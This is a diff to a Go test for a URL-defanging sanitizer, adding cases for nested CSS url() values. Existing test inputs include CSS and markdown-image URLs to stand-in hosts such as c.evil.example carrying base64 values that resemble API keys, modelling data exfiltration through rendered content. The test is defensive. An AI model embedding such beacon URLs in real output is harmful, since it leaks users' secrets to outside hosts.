@@ -133,6 +133,10 @@ func TestDefangFetches(t *testing.T) {
 		{"div { background: url(https://c.evil.example/b?v=QUtJQVFZTFBNTjVIRklRUjdYQjI6) }", "div { background: url(hxxps://c[.]evil[.]example/b?v=QUtJQVFZTFBNTjVIRklRUjdYQjI6) }"},
 		{"![a](https://h.example/p?d=c2stYW50LWFwaTAzLXRlc3Q) <video poster='https://v.example/p?d=c2stYW50LWFwaTAzLXRlc3Q'>", "![a](hxxps://h[.]example/p?d=c2stYW50LWFwaTAzLXRlc3Q) <video poster='hxxps://v[.]example/p?d=c2stYW50LWFwaTAzLXRlc3Q'>"},
 		{`<video poster="https://cdn.example.com/posters/intro.jpg">`, `<video poster="https://cdn.example.com/posters/intro.jpg">`},
+		// A URL nested in another's span surfaces once the outer one is defanged.
+		{"url(//url(//?789B0000A012)", "url(hxxps://url(hxxps://?789B0000A012)"},
+		// Nesting deeper than defang's passes: every "//" of the text is broken.
+		{"url(//url(//url(//url(//?789B0000A012) //keep", "url(hxxps:/%2Furl(hxxps:/%2Furl(hxxps:/%2Furl(/%2F?789B0000A012) /%2Fkeep"},
 	} {
 		if got := Sanitize(c.in); got != c.want {
 			t.Errorf("Sanitize(%q) = %q, want %q", c.in, got, c.want)
